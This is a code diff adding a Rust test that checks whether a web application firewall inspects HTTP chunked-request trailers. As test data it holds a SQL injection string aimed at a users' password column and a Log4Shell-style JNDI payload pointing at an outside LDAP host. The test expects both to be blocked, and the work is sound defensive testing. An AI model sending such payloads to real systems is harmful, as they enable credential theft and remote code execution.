@@ -393,6 +393,25 @@ fn interim_responses_do_not_confuse() {
 }
 
 #[test]
+fn trailers_are_inspected_like_the_fields_of_a_head() {
+    let origin = Origin::answering(|_| Answer::raw("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"));
+    let waf = running::waf(&to_upstream(&origin.url()));
+    for (trailer, status) in [
+        ("X-Q: 1' union select password from users--", 403),
+        ("X-Api: ${jndi:ldap://203.0.113.5/a}", 403),
+        ("X-Checksum: sha256=9f86d081884c7d65", 200),
+    ] {
+        let mut connection = Connection::open(waf.port).expect("a connection");
+        let request = format!(
+            "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n\
+             5\r\nhello\r\n0\r\n{trailer}\r\n\r\n"
+        );
+        connection.send(&request).expect("sent");
+        assert_eq!(connection.response().expect("a response").status, status, "{trailer}");
+    }
+}
+
+#[test]
 fn trailers_go_to_clients_that_take_them() {
     let origin = Origin::answering(|_| {
         Answer::raw("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\nX-Sum: 7\r\n\r\n")
